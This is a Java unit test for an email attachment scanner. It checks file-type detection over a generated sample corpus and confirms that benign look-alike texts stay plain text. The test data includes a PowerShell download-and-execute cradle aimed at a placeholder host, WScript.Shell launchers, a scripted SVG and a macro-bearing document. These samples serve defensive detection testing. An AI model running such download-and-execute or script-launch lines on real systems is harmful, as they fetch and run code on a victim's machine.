package dev.mamori.core.scan.content;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static dev.mamori.core.scan.content.Archives.entries;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Walks the generated corpus and prints two tables to {@code target/content-report/}: every item with its path and
 * detected type (the detection table), and benign look-alikes that must stay plain text (the false-positive table).
 * Asserts both, so the report is also a test.
 */
class CorpusReportTest {
    @TempDir
    Path temp;

    private static Map<String, byte[]> corpus() throws Exception {
        byte[] pe = Samples.pe();
        Map<String, byte[]> c = new LinkedHashMap<>();
        c.put("invoice.exe", pe);
        c.put("invoice.pdf.exe", pe);
        c.put("tool", Samples.elf());
        c.put("setup.msi", Samples.ole2(true));
        c.put("old.doc", Samples.ole2(false));
        c.put("shortcut.lnk", Samples.lnk());
        c.put("eicar.com", Samples.eicar());
        c.put("run.js", Samples.ascii("var s = new ActiveXObject('WScript.Shell'); s.Run('calc');"));
        c.put("run.vbs", Samples.ascii("Dim o\r\nSet o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\"\r\n"));
        c.put("app.hta", Samples.ascii("<html><head><hta:application id=\"a\"/></head></html>"));
        c.put("go.ps1", Samples.ascii("$u='http://example.invalid/'\nIEX (New-Object Net.WebClient).DownloadString($u)\n"));
        c.put("go.bat", Samples.ascii("@echo off\r\nstart calc\r\n"));
        c.put("page.html", Samples.ascii("<!doctype html><html><body><a href=\"http://x\">y</a></body></html>"));
        c.put("image.svg", Samples.ascii("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"));
        c.put("doc.pdf", Samples.ascii("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"));
        c.put("doc.rtf", Samples.ascii("{\\rtf1\\ansi hello}"));
        c.put("pic.png", Samples.withMagic(64, 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A));
        c.put("pic.jpg", Samples.withMagic(64, 0xFF, 0xD8, 0xFF, 0xE0));
        c.put("disk.iso", Samples.at(0x9000, 0x8001, "CD001"));
        c.put("disk.vhd", Samples.at(4096, 4096 - 512, "conectix"));
        c.put("bundle.zip", Archives.zip(entries("a.exe", pe, "inner.zip", Archives.zip(entries("b.js",
                Samples.ascii("var x = new ActiveXObject('x');"))))));
        c.put("report.docx", Archives.zip(entries("[Content_Types].xml", Samples.ascii("<Types/>"),
                "word/document.xml", Samples.ascii("<w/>"), "word/vbaProject.bin", Samples.ole2(false))));
        c.put("files.7z", Archives.sevenZip(entries("x.exe", pe)));
        c.put("files.tar.gz", Archives.compress("gz", Archives.tar(entries("x.elf", Samples.elf()))));
        c.put("files.tar.bz2", Archives.compress("bzip2", Archives.tar(entries("x.exe", pe))));
        c.put("files.tar.xz", Archives.compress("xz", Archives.tar(entries("x.exe", pe))));
        c.put("files.cpio", Archives.cpio(entries("x.exe", pe)));
        c.put("files.ar", Archives.ar(entries("x.exe", pe)));
        c.put("files.rar", Samples.concat(Samples.ascii("Rar!\u001A\u0007\u0000"), new byte[64]));
        return c;
    }

    /** Benign text that mentions what the script rules look for; every one must be detected as plain text. */
    private static Map<String, String> lookAlikes() {
        Map<String, String> t = new LinkedHashMap<>();
        t.put("meeting note", "Hi all,\nplease set the agenda and call me before the meeting.\nThanks\n");
        t.put("it advice", "If the laptop is slow, run Get-Process in PowerShell and send me the output.\n");
        t.put("prose with echo", "echo off the walls, as they say; goto the lobby at 9 and start without me.\n");
        t.put("dim sum", "Dim sum on Friday? Set the table for six.\nEnd of message\n");
        t.put("javascript talk", "The function of this team is to ship; var ious people asked about new ActiveX? No.\n");
        t.put("csv", "name,amount,date\nalice,12.50,2024-01-02\nbob,7.00,2024-01-03\n");
        t.put("markdown", "# Notes\n\n- item one\n- item two\n\n```\ncode sample\n```\n");
        t.put("utf-8 letter", "Grüße aus Köln — € 12,50 bezahlt.\n");
        t.put("signature", "--\nAlice Example | +1 555 0100 | https://example.org\n");
        return t;
    }

    @Test
    void detectionAndFalsePositiveTables() throws Exception {
        List<String> rows = new ArrayList<>();
        rows.add(String.format("%-16s  %-60s  %-12s  %-10s  %8s", "sample", "path", "detected", "kind", "size"));
        Map<String, FileType> topLevel = new LinkedHashMap<>();
        List<String> findings = new ArrayList<>();
        for (var e : corpus().entrySet()) {
            Collected c = Collected.walk(Mime.withAttachment(e.getKey(), e.getValue()), temp);
            for (Collected.Seen s : c.items) {
                if (s.depth() == 0 || s.path().equals("message › part 1")) {
                    continue;
                }
                rows.add(String.format("%-16s  %-60s  %-12s  %-10s  %8d", e.getKey(), s.path(), s.type(),
                        s.type().kind(), s.size()));
            }
            topLevel.put(e.getKey(), c.at("message › part 2 › " + e.getKey()).type());
            c.result.findings().forEach(f -> findings.add(e.getKey() + ": " + f));
        }
        List<String> fp = new ArrayList<>();
        fp.add(String.format("%-16s  %-10s  %s", "look-alike", "detected", "verdict"));
        int falsePositives = 0;
        for (var e : lookAlikes().entrySet()) {
            FileType t = FileTypeDetector.detect(e.getValue().getBytes(StandardCharsets.UTF_8));
            boolean ok = t == FileType.TEXT;
            falsePositives += ok ? 0 : 1;
            fp.add(String.format("%-16s  %-10s  %s", e.getKey(), t, ok ? "ok" : "FALSE POSITIVE"));
        }

        Path dir = Path.of("target", "content-report");
        Files.createDirectories(dir);
        List<String> report = new ArrayList<>();
        report.add("Detection table: every item of the generated corpus (one attachment per message)");
        report.addAll(rows);
        report.add("");
        report.add("Findings");
        report.addAll(findings);
        report.add("");
        report.add("False-positive table: benign text that must stay TEXT (" + falsePositives + " false positives)");
        report.addAll(fp);
        Files.write(dir.resolve("corpus.txt"), report, StandardCharsets.UTF_8);

        assertThat(topLevel).containsEntry("invoice.exe", FileType.PE).containsEntry("invoice.pdf.exe", FileType.PE)
                .containsEntry("tool", FileType.ELF).containsEntry("setup.msi", FileType.MSI)
                .containsEntry("old.doc", FileType.OLE2).containsEntry("shortcut.lnk", FileType.LNK)
                .containsEntry("run.js", FileType.JAVASCRIPT).containsEntry("run.vbs", FileType.VBSCRIPT)
                .containsEntry("app.hta", FileType.HTA).containsEntry("go.ps1", FileType.POWERSHELL)
                .containsEntry("go.bat", FileType.BATCH).containsEntry("page.html", FileType.HTML)
                .containsEntry("image.svg", FileType.SVG).containsEntry("doc.pdf", FileType.PDF)
                .containsEntry("disk.iso", FileType.ISO9660).containsEntry("report.docx", FileType.DOCX)
                .containsEntry("files.7z", FileType.SEVEN_ZIP).containsEntry("files.tar.gz", FileType.GZIP)
                .containsEntry("files.rar", FileType.RAR);
        assertThat(rows).anyMatch(r -> r.contains("bundle.zip › inner.zip › b.js") && r.contains("JAVASCRIPT"));
        assertThat(rows).anyMatch(r -> r.contains("files.tar.xz › files.tar › x.exe") && r.contains("PE"));
        assertThat(falsePositives).as(String.join("\n", fp)).isZero();
    }
}
